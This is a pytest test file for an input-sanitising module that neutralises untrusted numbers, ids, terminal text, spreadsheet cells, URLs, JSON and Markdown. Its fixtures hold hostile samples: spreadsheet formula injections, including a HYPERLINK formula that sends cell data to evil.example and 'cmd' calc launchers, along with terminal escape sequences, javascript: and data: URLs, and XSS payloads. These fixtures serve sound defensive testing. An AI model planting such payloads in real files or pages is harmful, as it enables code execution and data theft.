"""The one gate for numbers, ids and text given by people and articles (attribution.untrusted), case by case."""

from __future__ import annotations

import re

import pytest

from attribution import untrusted
from attribution.untrusted import MAX_ID, MAX_NUMBER, InputError

HUGE = "99999999999999999999999"


@pytest.mark.parametrize(
    ("raw", "low", "high", "expected"),
    [
        ("0", 0, MAX_NUMBER, 0),
        (" 7 ", 0, MAX_NUMBER, 7),
        ("9223372036854775807", 0, MAX_NUMBER, MAX_NUMBER),
        (12, 1, 64, 12),
        ("9223372036854775808", 0, MAX_NUMBER, "from 0 to 9223372036854775807, got 9223372036854775808"),
        (HUGE, 0, MAX_NUMBER, "got 99999999999999999999…"),
        ("9" * 5000, 0, MAX_NUMBER, "got 99999999999999999999…"),  # int() itself refuses 4,300 digits
        ("-1", 0, MAX_NUMBER, "from 0 to"),
        ("0", 1, 64, "from 1 to 64, got 0"),
        ("65", 1, 64, "from 1 to 64, got 65"),
        ("1e3", 0, MAX_NUMBER, "expected a whole number, got '1e3'"),
        ("1_000", 0, MAX_NUMBER, "expected a whole number"),
        ("١٢", 0, MAX_NUMBER, "expected a whole number"),  # Arabic-Indic digits: int() reads them, a person did not
        ("0x10", 0, MAX_NUMBER, "expected a whole number"),
        ("", 0, MAX_NUMBER, "expected a whole number"),
        ("12abc", 0, MAX_NUMBER, "expected a whole number"),
        ("1\x1b[2J", 0, MAX_NUMBER, "got '1\\x1b[2J'"),  # a control character is not repeated to the terminal
        (True, 0, MAX_NUMBER, "expected a whole number"),
    ],
)
def test_whole_numbers(raw, low: int, high: int, expected) -> None:
    if isinstance(expected, int):
        assert untrusted.whole_number(raw, low=low, high=high) == expected
        return
    with pytest.raises(InputError) as e:
        untrusted.whole_number(raw, "--offset", low=low, high=high)
    assert str(e.value).startswith("--offset: ") and expected in str(e.value)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("1", 1),
        ("2147483647", MAX_ID),
        ("2147483648", "no statement with id 2147483648"),
        ("0", "no statement with id 0"),
        ("-3", "no statement with id -3"),
        ("9223372036854775808", "no statement with id 9223372036854775808"),
        (HUGE, "no statement with id 99999999999999999999…"),
        ("abc", "statement id: expected a whole number, got 'abc'"),
        ("3.0", "statement id: expected a whole number, got '3.0'"),
    ],
)
def test_record_ids(raw: str, expected) -> None:
    if isinstance(expected, int):
        assert untrusted.record_id(raw, "statement") == expected
        return
    with pytest.raises(InputError, match=expected.replace("…", ".")):
        untrusted.record_id(raw, "statement")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain words, tabs\tand\nlines", "plain words, tabs\tand\nlines"),
        ("\x1b]8;;https://evil.example/\x1b\\link", "\\x1b]8;;https://evil.example/\\x1b\\link"),  # OSC 8 hyperlink
        ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),  # clear the screen
        ("bell\x07", "bell\\x07"),
        ("\r overwrite", "\\x0d overwrite"),
        ("C1 \x9b31m", "C1 \\x9b31m"),  # an 8-bit CSI
        ("[bold]kept as written[/bold] :smiley:", "[bold]kept as written[/bold] :smiley:"),  # Rich's concern: Text
    ],
)
def test_terminal_text(text: str, shown: str) -> None:
    assert untrusted.terminal(text) == shown


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("We will = they will", "We will = they will"),  # only the first character starts a formula
        ("“=1+1,” he said", "“=1+1,” he said"),
        ("", ""),
        (-3, -3),  # numbers are numbers
        (0.5, 0.5),
        (None, None),
    ],
)
def test_spreadsheet_cells(value, cell) -> None:
    assert untrusted.spreadsheet_cell(value) == cell


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://news.example.org/a1?x=1#p", True),
        ("HTTP://News.Example.org/a1", True),
        ("  https://news.example.org/a1  ", True),  # kept, without the spaces
        ("http://[::1]:8080/x", True),
        ("javascript:alert(document.cookie)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("java\tscript:alert(1)", False),  # browsers drop the tab and run it
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox(1)", False),
        ("file:///etc/passwd", False),
        ("ftp://files.example.org/a", False),
        ("//evil.example/x", False),  # scheme-relative
        ("/articles/1", False),
        ("https:evil.example", False),  # no host
        ("http://", False),
        ("https://exa mple.org/", False),
        ("https://example.org/)\n![x](https://evil.example/p.png)", False),
        ("http://[::1/x", False),  # unbalanced bracket
        ("", False),
        (None, False),
    ],
)
def test_web_urls(url, kept: bool) -> None:
    assert untrusted.web_url(url) == (url.strip() if kept else None)


@pytest.mark.parametrize(
    "value",
    [
        {"headline": "</script><script>alert(1)</script>"},
        {"name": "<!-- <script>", "x": "a & b > c"},
        ["&lt;", "\u2028", "plain"],
    ],
)
def test_script_json_reads_back_the_same_and_cannot_end_the_element(value) -> None:
    import json

    text = untrusted.script_json(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value
    assert not {"<", ">", "&"} & set(text)


@pytest.mark.parametrize(
    "value",
    [
        {"note": "a\x9b31mb", "by": "ann\x1b]8;;x"},  # C1 CSI passes json.dumps(ensure_ascii=False) raw; ESC does not
        ["\x7f", "\x85", "\x9f", "plain é"],
    ],
)
def test_terminal_json_reads_back_the_same_with_no_raw_control(value) -> None:
    import json

    text = untrusted.terminal_json(json.dumps(value, ensure_ascii=False))
    assert json.loads(text) == value
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", text)
    assert "é" in text or "plain" not in text  # other text is left as written


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("![x](https://evil.example/p.png)", "<p>![x](https://evil.example/p.png)</p>"),
        ("[Original article](javascript:alert(1))", "<p>[Original article](javascript:alert(1))</p>"),
        (
            "https://x.example/a)![y](https://evil.example/p.png)",
            "<p>https://x.example/a)![y](https://evil.example/p.png)</p>",
        ),
        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
        ("**bold** _it_ ~~s~~ `code`", "<p>**bold** _it_ ~~s~~ `code`</p>"),
        ("# heading\n- item\n1. first\n> quote", "<p># heading - item 1. first &gt; quote</p>"),
        ("    indented code", "<p>indented code</p>"),
        ("a\n\n\nb", "<p>a b</p>"),
        ("&lt; &#x41;", "<p>&amp;lt; &amp;#x41;</p>"),
        ("[x]: https://evil.example", "<p>[x]: https://evil.example</p>"),
        ("Lavrov: 10:30", "<p>Lavrov: 10:30</p>"),
    ],
)
def test_markdown_shows_text_as_written(text: str, html: str) -> None:
    from markdown_it import MarkdownIt

    shown = MarkdownIt("commonmark").enable("strikethrough").render(untrusted.markdown(text))
    assert shown.replace("\u2060", "").strip() == html  # the word joiners that break bare links are invisible


@pytest.mark.parametrize(
    ("text", "code", "read_after_escapes"),
    [
        (":smile: :+1:", ":smile:", True),  # emoji codes are replaced in text whose escapes are read: a word joiner
        (":material_home: and :material/home:", ":material_home:", True),  # Streamlit's icons, likewise
        (":material/home:", ":material/", False),  # replaced in the source before parsing
        (":red[alert] :blue-badge[x]", r"(?<!\\):red", False),  # directives: parsed, so an escape stops them
        ("$x^2$ and $$y$$", r"(?<!\\)\$", False),  # LaTeX: Streamlit skips an escaped $
        ("see https://evil.example/x", r"https?://", True),  # GFM links bare URLs in the text it has read
        ("see www.evil.example", r"www\.", True),
        ("write to a@evil.example", r"\w@", True),
    ],
)
def test_markdown_breaks_streamlits_extensions(text: str, code: str, read_after_escapes: bool) -> None:
    escaped = untrusted.markdown(text)
    assert not re.search(code, escaped.replace("\\", "") if read_after_escapes else escaped)
